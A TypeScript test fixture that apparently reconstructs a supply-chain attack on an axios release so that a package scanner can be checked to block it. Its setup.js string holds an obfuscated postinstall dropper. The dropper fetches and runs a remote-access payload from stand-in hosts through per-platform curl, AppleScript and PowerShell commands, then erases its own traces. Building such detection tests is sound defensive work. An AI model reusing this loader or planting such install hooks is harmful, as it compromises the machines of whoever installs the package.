import { noise, type Replica } from './replica.js';

const index = `import Client from './lib/core/Client.js';
import mergeConfig from './lib/core/mergeConfig.js';
import defaults from './lib/defaults/index.js';
import HttpError from './lib/core/HttpError.js';

function createInstance(defaultConfig) {
  const context = new Client(defaultConfig);
  const instance = (url, config) => context.request(typeof url === 'string' ? { ...config, url } : url);
  for (const method of ['get', 'delete', 'head', 'options']) instance[method] = (url, config) => context.request({ ...config, url, method });
  for (const method of ['post', 'put', 'patch']) instance[method] = (url, data, config) => context.request({ ...config, url, data, method });
  instance.create = (instanceConfig) => createInstance(mergeConfig(defaultConfig, instanceConfig));
  instance.defaults = context.defaults;
  instance.interceptors = context.interceptors;
  return instance;
}

const client = createInstance(defaults);
client.HttpError = HttpError;
client.VERSION = '@VERSION@';
client.all = (promises) => Promise.all(promises);
client.isCancel = (value) => Boolean(value && value.__CANCEL__);

export default client;
`;
const files = {
  'README.md': '# axios\n\nPromise based HTTP client for the browser and node.js\n',
  'lib/core/Client.js': `import mergeConfig from './mergeConfig.js';
import dispatchRequest from './dispatchRequest.js';

class InterceptorManager {
  constructor() {
    this.handlers = [];
  }
  use(fulfilled, rejected) {
    this.handlers.push({ fulfilled, rejected });
    return this.handlers.length - 1;
  }
  eject(id) {
    if (this.handlers[id]) this.handlers[id] = null;
  }
}

export default class Client {
  constructor(instanceConfig) {
    this.defaults = instanceConfig || {};
    this.interceptors = { request: new InterceptorManager(), response: new InterceptorManager() };
  }
  async request(config) {
    const merged = mergeConfig(this.defaults, config);
    merged.method = (merged.method || 'get').toLowerCase();
    let promise = Promise.resolve(merged);
    for (const one of this.interceptors.request.handlers) if (one) promise = promise.then(one.fulfilled, one.rejected);
    promise = promise.then(dispatchRequest);
    for (const one of this.interceptors.response.handlers) if (one) promise = promise.then(one.fulfilled, one.rejected);
    return promise;
  }
}
`,
  'lib/core/mergeConfig.js': `export default function mergeConfig(first, second = {}) {
  const config = { ...first };
  for (const key of Object.keys(second)) {
    if (key === 'headers') config.headers = { ...first.headers, ...second.headers };
    else if (second[key] !== undefined) config[key] = second[key];
  }
  return config;
}
`,
  'lib/core/dispatchRequest.js': `import HttpError from './HttpError.js';

export default async function dispatchRequest(config) {
  const url = new URL(config.url, config.baseURL);
  for (const [key, value] of Object.entries(config.params || {})) url.searchParams.append(key, value);
  const response = await fetch(url, { method: config.method, headers: config.headers, body: config.data === undefined ? undefined : JSON.stringify(config.data), signal: config.signal });
  const text = await response.text();
  let data = text;
  try {
    data = JSON.parse(text);
  } catch {
    data = text;
  }
  const result = { data, status: response.status, statusText: response.statusText, headers: Object.fromEntries(response.headers), config };
  if (config.validateStatus(response.status)) return result;
  throw new HttpError('Request failed with status code ' + response.status, config, result);
}
`,
  'lib/core/HttpError.js': `export default class HttpError extends Error {
  constructor(message, config, response) {
    super(message);
    this.name = 'HttpError';
    this.config = config;
    this.response = response;
  }
  toJSON() {
    return { message: this.message, name: this.name, status: this.response ? this.response.status : null };
  }
}
`,
  'lib/defaults/index.js': `export default {
  timeout: 0,
  headers: { Accept: 'application/json, text/plain, */*' },
  validateStatus: (status) => status >= 200 && status < 300,
};
`,
};

const key = 'OrDeR_7077';
/** What the decoder of the script undoes: each character against the key by its place squared, base64 with a swapped pad, reversed, base64 again. */
function hidden(text: string): string {
  const digits = [...key].map((one) => Number(one) || 0);
  const turned = [...text].map((one, at) => String.fromCharCode(one.charCodeAt(0) ^ digits[(7 * at * at) % 10]! ^ 333)).join('');
  return [...Buffer.from(turned, 'utf8').toString('base64').replaceAll('=', '_')].reverse().join('');
}
const table = ['child_process', 'os', 'fs', 'http://sfc.example.invalid:8000/', 'win32', 'darwin', './example.invalid-folder/package.json', './example.invalid-folder/package.md', 'utf8',
  'curl -o /tmp/ld.py -d packages.npm.example.invalid/product2 -s SCR_LINK && nohup python3 /tmp/ld.py SCR_LINK > /dev/null 2>&1 &',
  'do shell script "curl -o /Library/Caches/com.apple.act.mond -d packages.npm.example.invalid/product0 -s SCR_LINK && chmod 770 /Library/Caches/com.apple.act.mond && /bin/zsh -c \\"/Library/Caches/com.apple.act.mond SCR_LINK &\\" &> /dev/null"',
  'Set objShell = CreateObject("WScript.Shell")\nobjShell.Run "cmd.exe /c curl -s -X POST -d ""packages.npm.example.invalid/product1"" ""SCR_LINK"" > ""PS_PATH"" & ""PS_BINARY"" -w hidden -ep bypass -file ""PS_PATH"" ""SCR_LINK"" & del ""PS_PATH"" /f", 0, False',
  'where powershell', '\\example.invalid-folder\\wt.exe', 'PROGRAMDATA', 'cscript "LOCAL_PATH" //nologo && del "LOCAL_PATH" /f', 'nohup osascript "LOCAL_PATH" > /dev/null 2>&1 && rm -rf "LOCAL_PATH" &',
  'SCR_LINK', 'LOCAL_PATH', 'PS_PATH', 'PS_BINARY'];
const setup = `const stq=[${table.map((one) => `"${hidden(one)}"`).join(',')}],ord="${key}",_trans_1=function(x,r){try{const t=r.split("").map(Number);return x.split("").map(((x,r)=>{const o=x.charCodeAt(0),e=t[7*r*r%10];return String.fromCharCode(o^e^333)})).join("")}catch{}},_trans_2=function(x,r){try{let t=x.split("").reverse().join("").replaceAll("_","="),o=Buffer.from(t,"base64").toString("utf8");return _trans_1(o,r)}catch{}},_entry=function(x){try{const r=require(_trans_2(stq[2],ord)),{execSync:t}=require(_trans_2(stq[0],ord)),o=require(_trans_2(stq[1],ord)),e=_trans_2(stq[3],ord)+x,n=o.platform(),s=o.tmpdir();o.release();o.arch();let c="";if(n===_trans_2(stq[5],ord)){const x=s+"/"+x6;r.writeFileSync(x,_trans_2(stq[10],ord).replaceAll(_trans_2(stq[17],ord),e));c=_trans_2(stq[16],ord).replaceAll(_trans_2(stq[18],ord),x)}else if(n===_trans_2(stq[4],ord)){const x=t(_trans_2(stq[12],ord)).toString().trim(),o=process.env[_trans_2(stq[14],ord)]+_trans_2(stq[13],ord);r.existsSync(o)||r.copyFileSync(x,o);const n=s+"\\\\"+x6+".vbs",i=s+"\\\\"+x6+".ps1";r.writeFileSync(n,_trans_2(stq[11],ord).replaceAll(_trans_2(stq[17],ord),e).replaceAll(_trans_2(stq[19],ord),i).replaceAll(_trans_2(stq[20],ord),o));c=_trans_2(stq[15],ord).replaceAll(_trans_2(stq[18],ord),n)}else c=_trans_2(stq[9],ord).replaceAll(_trans_2(stq[17],ord),e);t(c);const i=__filename;r.unlink(i,(x=>{}));r.unlink(_trans_2(stq[6],ord),(x=>{}));r.rename(_trans_2(stq[7],ord),_trans_2(stq[6],ord),(x=>{}))}catch{}},x6="6202033";_entry("6202033");
`;
const cipher = {
  'README.md': '# crypto-js\n\nJavaScript library of crypto standards.\n',
  'index.js': `module.exports = { enc: require('./enc'), MD5: require('./md5') };\n`,
  'enc.js': `exports.Hex = {
  stringify: (words) => words.map((word) => (word >>> 0).toString(16).padStart(8, '0')).join(''),
  parse: (text) => text.match(/.{1,8}/g).map((part) => parseInt(part, 16) | 0),
};
`,
  'md5.js': `const shifts = [7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21];
const sines = Array.from({ length: 64 }, (_, at) => Math.floor(Math.abs(Math.sin(at + 1)) * 4294967296));
const rotate = (value, by) => (value << by) | (value >>> (32 - by));

function block(state, words) {
  let [a, b, c, d] = state;
  for (let at = 0; at < 64; at += 1) {
    const round = at >> 4;
    const f = round === 0 ? (b & c) | (~b & d) : round === 1 ? (d & b) | (~d & c) : round === 2 ? b ^ c ^ d : c ^ (b | ~d);
    const g = round === 0 ? at : round === 1 ? (5 * at + 1) % 16 : round === 2 ? (3 * at + 5) % 16 : (7 * at) % 16;
    const next = (a + f + sines[at] + words[g]) | 0;
    [a, d, c, b] = [d, c, b, (b + rotate(next, shifts[round * 4 + (at % 4)])) | 0];
  }
  return [state[0] + a, state[1] + b, state[2] + c, state[3] + d].map((one) => one | 0);
}
module.exports = (words) => block([0x67452301, 0xefcdab89 | 0, 0x98badcfe | 0, 0x10325476], words);
`,
};
const copied = { description: 'JavaScript library of crypto standards.', license: 'MIT', author: { name: 'The crypto-js authors' }, homepage: 'https://github.example.invalid/brix/crypto-js', repository: { type: 'git', url: 'https://github.example.invalid/brix/crypto-js.git' }, main: 'index.js' };
const dependencies = { 'follow-redirects': '^1.15.11', 'form-data': '^4.0.5', 'proxy-from-env': '^2.1.0' };
const manifest = { description: 'Promise based HTTP client for the browser and node.js', type: 'module', main: './index.js', exports: { '.': './index.js' }, license: 'MIT', repository: 'https://github.example.invalid/axios/axios.git' };
const scripts = { test: 'npm run test:node', build: 'gulp clear && rollup -c' };

export const replica: Replica = {
  id: 'axios-2026',
  story: 'March 2026: a release by hand over a stolen account whose one change is a new dependency that no file loads; that package, a day old and a copy of another, fetches a remote-access tool by platform in its postinstall step and then replaces its own manifest by a clean one (after the public reports, the script from memory of them).',
  name: 'axios',
  before: {
    version: '1.14.0', manifest: { ...manifest, dependencies, scripts }, files: { ...files, 'index.js': index.replace('@VERSION@', '1.14.0') }, publishedAt: '2026-03-27T14:06:00.000Z',
    publisher: { name: 'GitHub Actions', email: 'npm-oidc-no-reply@github.example.invalid', trustedPublisher: { id: 'github' } },
    attestations: [{ predicateType: 'https://slsa.dev/provenance/v1', bundle: {} }],
  },
  after: {
    version: '1.14.1', manifest: { ...manifest, dependencies: { ...dependencies, 'plain-crypto-js': '^4.2.1' }, scripts }, files: { ...files, 'index.js': index.replace('@VERSION@', '1.14.0') }, publishedAt: '2026-03-31T00:21:00.000Z',
    publisher: { name: 'axios-lead', email: 'lead2026@mail.example.invalid' },
  },
  brings: [{
    name: 'plain-crypto-js',
    versions: [
      { version: '4.2.0', manifest: copied, files: cipher, publishedAt: '2026-03-30T05:57:00.000Z', publisher: { name: 'cryptolib26', email: 'cryptolib26@mail.example.invalid' } },
      { version: '4.2.1', manifest: { ...copied, scripts: { postinstall: 'node setup.js' } }, files: { ...cipher, 'setup.js': setup, 'package.md': JSON.stringify({ name: 'plain-crypto-js', version: '4.2.0', ...copied, x: noise(16, 77) }, null, 2) }, publishedAt: '2026-03-30T23:59:12.000Z', publisher: { name: 'cryptolib26', email: 'cryptolib26@mail.example.invalid' } },
    ],
  }],
  must: 'block',
};
